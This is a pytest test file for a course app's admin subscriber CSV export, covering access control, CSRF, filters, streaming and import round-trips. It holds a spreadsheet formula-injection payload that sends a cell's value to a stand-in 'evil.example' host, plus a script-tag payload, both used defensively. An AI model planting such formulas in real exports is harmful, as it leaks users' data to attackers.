"""The admin's CSV export: who may download it, what it holds, and that import reads it back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from conftest import csrf_from
from flask.testing import FlaskClient

from course.admin import export as export_module
from course.csv_io import EXPORT_COLUMNS
from course.extensions import db
from course.models import Delivery, DeliveryStatus, Status, Subscriber
from course.timeutil import utcnow

T0 = datetime(2025, 3, 1, 9, 30, 15, 123456, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")'
HTML = '<script>alert("x")</script> & <b>Bo</b>'



def add(email: str, **fields: object) -> Subscriber:
    values: dict[str, object] = dict(
        name="", timezone="Europe/Berlin", status=Status.ACTIVE, consent_at=T0,
        consent_ip="203.0.113.7", consent_version="signup-v1", confirmed_at=T0 + timedelta(1),
        created_at=T0, next_position=1,
    )
    values.update(fields)
    sub = Subscriber(email=email, **values)
    db.session.add(sub)
    db.session.commit()
    return sub


def download(client: FlaskClient, **form: str):
    token = csrf_from(client.get("/admin/export").get_data(as_text=True))
    return client.post("/admin/export", data={"csrf_token": token, **form})


def parse(resp) -> list[dict[str, str]]:
    text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff"), "the file starts with a UTF-8 byte order mark"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


# --- who may download --------------------------------------------------------------------


def test_the_export_page_and_the_download_need_a_signed_in_admin(app):
    with app.app_context():
        add("ann@example.com")
    client = app.test_client()
    page = client.get("/admin/export")
    assert page.status_code == 302 and "/admin/login" in page.headers["Location"]
    post = client.post("/admin/export", data={"status": ""})
    assert post.status_code in (302, 400)
    assert b"ann@example.com" not in post.get_data()


def test_the_download_is_a_post_with_a_csrf_token_so_another_site_cannot_start_it(admin):
    with admin.application.app_context():
        add("ann@example.com")
    no_token = admin.post("/admin/export", data={"status": ""})
    assert no_token.status_code == 400
    assert b"ann@example.com" not in no_token.get_data()
    forged = admin.post("/admin/export", data={"status": "", "csrf_token": "forged"})
    assert forged.status_code == 400
    # A GET only shows the form; it never sends the file.
    page = admin.get("/admin/export?status=active")
    assert page.status_code == 200 and page.mimetype == "text/html"
    assert b"ann@example.com" not in page.get_data()
    assert 'method="post"' in page.get_data(as_text=True)


def test_the_form_is_prefilled_from_the_subscribers_filters(admin):
    html = admin.get("/admin/export?status=paused&q=%3Cx%3E").get_data(as_text=True)
    assert '<option value="paused" selected>' in html
    assert 'value="&lt;x&gt;"' in html  # escaped, like every admin page


# --- what the file holds -----------------------------------------------------------------


def test_one_row_per_subscriber_with_progress_counts_and_an_attachment_name(admin):
    app = admin.application
    with app.app_context():
        ann = add("ann@example.com", name="Ann", timezone="America/New_York", next_position=3,
                  completed_at=None)
        add("bob@example.com", name="Bob", status=Status.UNSUBSCRIBED,
            unsubscribed_at=T0 + timedelta(days=2))
        sent = T0 + timedelta(days=1)
        for position, extra in ((1, dict(human_opened_at=sent, opened_at=sent,
                                         clicked_at=sent, completed_at=sent)),
                                (2, dict(opened_at=sent))):  # a machine open only
            db.session.add(Delivery(subscriber_id=ann.id, lesson_slug=f"l{position}",
                                    position=position, status=DeliveryStatus.SENT,
                                    sent_at=sent, **extra))
        db.session.commit()
    resp = download(admin)
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    today = utcnow().strftime("%Y%m%d")
    assert resp.headers["Content-Disposition"] == f"attachment; filename=subscribers-{today}.csv"
    assert resp.headers["Cache-Control"] == "no-store"
    rows = parse(resp)
    assert tuple(rows[0].keys()) == EXPORT_COLUMNS
    assert [r["email"] for r in rows] == ["ann@example.com", "bob@example.com"]
    ann_row, bob_row = rows
    assert ann_row == {
        "email": "ann@example.com", "name": "Ann", "status": "active",
        "timezone": "America/New_York", "joined_at": "2025-03-01T09:30:15.123456Z",
        "confirmed_at": "2025-03-02T09:30:15.123456Z",
        "consent_at": "2025-03-01T09:30:15.123456Z", "consent_ip": "203.0.113.7",
        "consent_version": "signup-v1", "next_lesson": "3", "lessons_sent": "2",
        "lessons_opened": "1", "lessons_clicked": "1", "lessons_done": "1",
        "completed_at": "", "finished_at": "", "unsubscribed_at": "",
    }
    assert bob_row["status"] == "unsubscribed"
    assert bob_row["unsubscribed_at"] == "2025-03-03T09:30:15.123456Z"
    assert bob_row["lessons_sent"] == "0"


def test_the_status_and_search_filters_choose_the_rows(admin):
    with admin.application.app_context():
        add("ann@example.com")
        add("bob@example.com", status=Status.PAUSED)
        add("bobby@example.org", status=Status.PAUSED)
    assert [r["email"] for r in parse(download(admin, status="paused"))] == [
        "bob@example.com", "bobby@example.org"]
    assert [r["email"] for r in parse(download(admin, status="paused", q="EXAMPLE.ORG"))] == [
        "bobby@example.org"]
    assert [r["email"] for r in parse(download(admin, q="%"))] == []  # a literal percent
    with admin.application.app_context():
        add("carol@example.net", name="Carol Bobson")
    # As in the subscribers list: part of the email or of the name.
    assert [r["email"] for r in parse(download(admin, q="bobs"))] == ["carol@example.net"]


def test_an_unknown_status_is_a_400_page_not_everyone(admin):
    with admin.application.app_context():
        add("ann@example.com")
    resp = download(admin, status="nobody")
    assert resp.status_code == 400
    assert resp.mimetype == "text/html"
    assert b"ann@example.com" not in resp.get_data()


def test_formulas_are_quoted_and_html_is_written_as_it_is(admin):
    with admin.application.app_context():
        add("formula@example.com", name=FORMULA)
        add("html@example.com", name=HTML)
        add("-dash@example.com", name="+plus @at")
        add("quote@example.com", name="'=already quoted")
    cells = {r["email"]: r["name"] for r in parse(download(admin))}
    assert cells["formula@example.com"] == "'" + FORMULA
    # CSV is not HTML: no entity escaping, the text is exactly what was stored.
    assert cells["html@example.com"] == HTML
    assert cells["'-dash@example.com"] == "'+plus @at"
    # An author's quote in front of a formula gets one more, so the import can tell them apart.
    assert cells["quote@example.com"] == "''=already quoted"


def test_the_file_is_streamed_in_chunks_read_by_id(admin, monkeypatch):
    monkeypatch.setattr(export_module, "CHUNK", 2)
    with admin.application.app_context():
        for i in range(5):
            add(f"s{i}@example.com", created_at=T0 - timedelta(days=i))  # ids, not join dates
    token = csrf_from(admin.get("/admin/export").get_data(as_text=True))
    resp = admin.post("/admin/export", data={"csrf_token": token}, buffered=False)
    assert resp.is_streamed
    chunks = list(resp.response)
    resp.close()
    assert len(chunks) == 4  # the header, then three chunks of at most two rows
    text = "".join(c.decode() if isinstance(c, bytes) else c for c in chunks)
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert [r["email"] for r in rows] == [f"s{i}@example.com" for i in range(5)]


# --- the round trip ----------------------------------------------------------------------

FIELDS = ("email", "name", "status", "timezone", "consent_at", "consent_ip",
          "consent_version", "next_position", "confirmed_at", "created_at", "finished_at",
          "unsubscribed_at")


def snapshot() -> list[tuple[object, ...]]:
    subs = db.session.scalars(db.select(Subscriber).order_by(Subscriber.email)).all()
    return [tuple(getattr(s, f) for f in FIELDS) for s in subs]


def test_export_then_import_into_an_empty_database_gives_the_same_subscribers(
        admin, tmp_path: Path):
    app = admin.application
    with app.app_context():
        add("ann@example.com", name="Ann Ünïcødé 🎓", timezone="Asia/Kolkata", next_position=4)
        add("formula@example.com", name=FORMULA, status=Status.PAUSED)
        add("html@example.com", name=HTML, consent_ip="2001:db8::1")
        add("comma@example.com", name='Smith, "Jo"', status=Status.PENDING,
            confirmed_at=None, consent_version="landing-b")
        add("quote@example.com", name="'=already quoted")
        add("-dash+tag@example.com", name="-", status=Status.FINISHED, next_position=11,
            finished_at=T0 + timedelta(days=12))
        add("gone@example.com", status=Status.UNSUBSCRIBED,
            unsubscribed_at=T0 + timedelta(days=3))
        add("bounced@example.com", status=Status.BOUNCED, name="")
        before = snapshot()
    resp = download(admin)
    assert resp.status_code == 200
    path = tmp_path / "subscribers.csv"
    path.write_bytes(resp.get_data())

    with app.app_context():
        db.session.execute(db.delete(Subscriber))
        db.session.commit()
    result = app.test_cli_runner().invoke(args=["subscribers", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == f"{path}: imported 8, already there 0, rejected 0"
    with app.app_context():
        assert snapshot() == before
        # Mail goes only to the active ones, at their next 09:00 local time.
        due = {email: when for email, when in db.session.execute(
            db.select(Subscriber.email, Subscriber.next_send_at))}
        assert {e for e, when in due.items() if when is not None} == {
            "ann@example.com", "html@example.com", "quote@example.com"}
        kolkata = due["ann@example.com"].astimezone(ZoneInfo("Asia/Kolkata"))
        assert (kolkata.hour, kolkata.minute) == (9, 0)
